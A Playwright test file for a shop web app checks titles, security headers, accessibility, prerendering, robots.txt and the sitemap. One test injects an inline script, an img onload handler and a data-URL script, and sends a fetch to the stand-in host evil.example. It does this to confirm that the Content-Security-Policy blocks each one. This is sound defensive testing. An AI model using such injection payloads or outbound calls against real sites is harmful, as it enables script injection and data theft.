import type { Page } from "@playwright/test";
import { expectAccessible, expectNoFindings } from "./support/accessibility.ts";
import { NOT_FOUND } from "./support/console.ts";
import { FIRESTORE_READS, holdCalls } from "./support/network.ts";
import { pagesOf, prerenderedPages, ROLES } from "./support/pages.ts";
import { heading, mainMenu } from "./support/screens.ts";
import { expect, test } from "./support/test.ts";

declare global {
  interface Window {
    violations: string[];
    wasInjected?: boolean;
  }
}

const HEADERS = {
  "strict-transport-security": /max-age=\d{8}/,
  "x-content-type-options": /^nosniff$/,
  "x-frame-options": /^DENY$/,
  "content-security-policy": /frame-ancestors 'none'/,
  "referrer-policy": /^strict-origin-when-cross-origin$/,
  "permissions-policy": /camera=\(\)/,
  "cross-origin-opener-policy": /^same-origin-allow-popups$/,
};
const POLICY = /default-src 'self'; script-src 'self' 'sha256-[^']+' /;

const WIDE = { width: 1280, height: 720 };
const NARROW = { width: 320, height: 640 };

/** The rules of axe that colors and a narrow screen decide. */
const NARROW_AND_DARK = ["color-contrast", "link-in-text-block", "target-size", "scrollable-region-focusable"];

/** Records every violation of the Content-Security-Policy in `window.violations`. */
const watchViolations = (page: Page) =>
  page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
      window.violations.push(`${violatedDirective}: ${blockedURI}`),
    );
  });

for (const role of ROLES)
  test(`[N-4 N-5 A-5] every ${role}'s page has its title, safe headers, no axe finding in light or dark, and fits a 320-pixel screen with long words`, async ({
    page: visitors,
    openAs,
    shop,
    consoleErrors,
  }) => {
    consoleErrors.expect(NOT_FOUND);
    const { user, pages } = await pagesOf(role, shop);
    const page = user ? await openAs(user) : visitors;
    await watchViolations(page);
    for (const { path, title, isComplete } of pages)
      await test.step(title, async () => {
        await page.setViewportSize(NARROW);
        const response = await page.goto(path);
        await isComplete(page);
        await expect.soft(page).toHaveTitle(`${title} - Salus`);
        await expect.soft(page.getByRole("heading", { level: 1 })).toHaveCount(1);
        const isTooWide = () => document.documentElement.scrollWidth > document.documentElement.clientWidth;
        expect.soft(await page.evaluate(isTooWide), `${title} scrolls sideways`).toBe(false);
        await expectNoFindings(page, `${title} at 320 pixels`, "dark", NARROW_AND_DARK);
        await page.setViewportSize(WIDE);
        await expectNoFindings(page, title, "light");
        expect.soft(await page.evaluate(() => window.violations), title).toEqual([]);
        const policy = page.locator("head > meta[http-equiv='Content-Security-Policy']");
        await expect.soft(policy).toHaveAttribute("content", POLICY);
        for (const [name, value] of Object.entries(HEADERS))
          expect.soft(response?.headers()[name], name).toMatch(value);
        expect.soft(response?.status()).toBe(path === "/no/such/page" ? 404 : 200);
      });
  });

test("[X-6 S-1 K-2] the HTML of public pages is complete without scripts", async ({ request }) => {
  for (const { path, title, text, canonical } of prerenderedPages) {
    const html = (await (await request.get(path)).text()).replaceAll("&amp;", "&");
    const meta = (name: string) => new RegExp(`<meta ${name} content="([^"]*)"`).exec(html)?.[1];
    expect(html, path).toContain(`<title>${title} - Salus</title>`);
    expect(html.slice(html.indexOf("<main")), path).toContain(text);
    expect(meta('name="description"')?.length, path).toBeGreaterThan(50);
    expect(meta('property="og:title"'), path).toBe(
      title === "Home" ? "Salus: medical and personal-care supplies" : title,
    );
    const picture = new URL(meta('property="og:image"') ?? "").pathname;
    expect(picture, path).toBe(path.startsWith("/blogs/") ? `${path.replace("blogs", "articles")}.png` : "/og.png");
    const address = /<link rel="canonical" href="([^"]*)"/.exec(html)?.[1];
    expect(address && new URL(address).pathname, path).toBe(canonical);
    expect(meta('name="robots"'), path).toBe(canonical ? undefined : "noindex");
    if (path === "/portfolio") for (const section of ["Skills", "Projects"]) expect(html).toContain(`>${section}</h2>`);
  }
});

test("[X-6 N-3 N-4 N-5 N-7] hydration keeps prerendered HTML, and the menu works", async ({ page, consoleErrors }) => {
  consoleErrors.expect(NOT_FOUND);
  await page.setViewportSize(NARROW);
  const menu = page.getByRole("button", { name: "Menu" });
  const login = mainMenu(page).getByRole("link", { name: "Login" });
  for (const { path, title, canonical } of prerenderedPages)
    await test.step(path, async () => {
      await page.goto(path, { waitUntil: "domcontentloaded" });
      const main = await page.getByRole("main").evaluateHandle((element) => element);
      await expect(login).toBeHidden();
      await menu.click();
      await expect(menu).toHaveAttribute("aria-expanded", "true");
      await expect(login).toBeVisible();
      expect(await main.evaluate((element) => element.isConnected)).toBe(true);
      await expect(page).toHaveTitle(`${title} - Salus`);
      const listed = canonical ? 'link[rel="canonical"]' : 'meta[name="robots"]';
      for (const tag of ['meta[name="description"]', listed, "title"])
        await expect(page.locator(`head > ${tag}`)).toHaveCount(1);
    });

  await expectAccessible(page, "the open menu");
  await login.press("Enter");
  await expect(heading(page, "Login")).toBeFocused();
  await expect(login).toBeHidden();
  await page.goto("/no/such/page");
  await page.getByRole("link", { name: "Go to the home page" }).click();
  await expect(page).toHaveURL("/home");
  await expect(page.locator('head > meta[name="robots"]')).toHaveCount(0);
});

test("[X-6 N-5 F-3] a prerendered page requests its scripts after the first paint", async ({ page }) => {
  await page.goto("/blogs");
  const [painted = 0, requested = 0] = await page.evaluate(() => {
    const scripts = performance.getEntriesByType("resource").filter(({ name }) => name.endsWith(".js"));
    const paint = performance.getEntriesByName("first-contentful-paint")[0];
    return [paint?.startTime, Math.min(...scripts.map(({ startTime }) => startTime))];
  });
  expect(painted).toBeGreaterThan(0);
  expect(requested).toBeGreaterThan(painted);
});

test("[T-8 F-2] a private page's own scripts are named in its HTML, which the page loads no later than the app, and each of them once", async ({
  openAs,
  admin,
}) => {
  const page = await openAs(admin);
  const response = await page.goto("/dashboard/manageOrders");
  await expect(heading(page, "Manage Orders")).toBeVisible();
  const named = [...((await response?.text()) ?? "").matchAll(/(?:href|src)="(\/assets\/[^"]+\.js)"/g)].map(
    ([, path]) => path,
  );
  expect(named).toContainEqual(expect.stringContaining("manage-orders-page"));
  const loaded = await page.evaluate(() =>
    performance.getEntriesByType("resource").map(({ name }) => new URL(name).pathname),
  );
  for (const path of named)
    expect(
      loaded.filter((one) => one === path),
      path,
    ).toHaveLength(1);
});

test("[X-6] robots.txt excludes private pages, and the sitemap's pages exist", async ({ request, baseURL }) => {
  const robots = await (await request.get("/robots.txt")).text();
  for (const path of ["/dashboard", "/products$", "/products?", "/purchase/"])
    expect(robots).toContain(`Disallow: ${path}\n`);
  expect(robots).toContain(`Sitemap: ${baseURL}/sitemap.xml\n`);
  const sitemap = await (await request.get("/sitemap.xml")).text();
  const paths = [...sitemap.matchAll(/<loc>([^<]*)<\/loc>/g)].map(([, address = ""]) => new URL(address).pathname);
  expect(paths).toEqual(expect.arrayContaining(["/", "/portfolio", "/blogs", "/contact"]));
  expect(paths.filter((path) => path.startsWith("/blogs/")).length).toBeGreaterThanOrEqual(3);
  for (const path of paths) expect((await request.get(path)).status(), path).toBe(200);
});

test("injected scripts do not run, and data cannot be sent to other hosts", async ({ page, consoleErrors }) => {
  consoleErrors.expect(/Content Security Policy/, /Refused to connect/);
  await watchViolations(page);
  await page.goto("/contact");
  const outcome = await page.evaluate(async () => {
    const image = document.createElement("div");
    image.innerHTML = '<img src="/favicon.svg" onload="window.wasInjected = true">';
    const inline = document.createElement("script");
    inline.textContent = "window.wasInjected = true";
    document.body.append(inline, image);
    const elsewhere = await fetch("https://evil.example/").then(
      () => "sent",
      () => "refused",
    );
    const external = await new Promise((resolve) => {
      const script = document.createElement("script");
      script.src = "data:text/javascript,window.wasInjected=true";
      script.onerror = () => resolve("refused");
      script.onload = () => resolve("ran");
      document.body.append(script);
    });
    return { elsewhere, external };
  });
  expect(outcome).toEqual({ elsewhere: "refused", external: "refused" });
  expect(await page.evaluate(() => window.wasInjected)).toBeUndefined();
  await expect
    .poll(() => page.evaluate(() => window.violations.map((text) => text.split(":")[0]).sort()))
    .toEqual(["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
});

/** The titles of the pages that show the API's answers first. All other pages wait for Firestore. */
const ANSWERED = {
  customer: ["Purchase", "My Profile", "Add Review", "My Orders", "Order", "Payment"],
  admin: [
    "Add a Product",
    "Manage Products",
    "Product",
    "Edit Product",
    "Categories",
    "Manage Orders",
    "Make Admin",
    "Reviews",
    "Messages",
    "Newsletter",
    "Emails",
  ],
};

for (const role of ["customer", "admin"] as const)
  test(`[F-2] the pages of a user with the role ${role} show the API's answers while Firestore does not answer`, async ({
    openAs,
    shop,
  }) => {
    const { user, pages } = await pagesOf(role, shop);
    if (!user) throw new Error(`There is no ${role}`);
    const page = await openAs(user);
    const { arrived } = await holdCalls(page, FIRESTORE_READS);
    const answered = pages.filter(
      ({ path, title }) =>
        ANSWERED[role].includes(title) || /^\/(purchase|dashboard\/(orders|payment|manageProducts))\/\w{20}/.test(path),
    );
    expect(answered).toHaveLength(ANSWERED[role].length);
    for (const { path, title, isComplete } of answered)
      await test.step(title, async () => {
        await page.goto(path);
        await isComplete(page);
        await expect(page.getByRole("main").getByText(/^Loading/)).toHaveCount(0);
      });
    await arrived;
  });
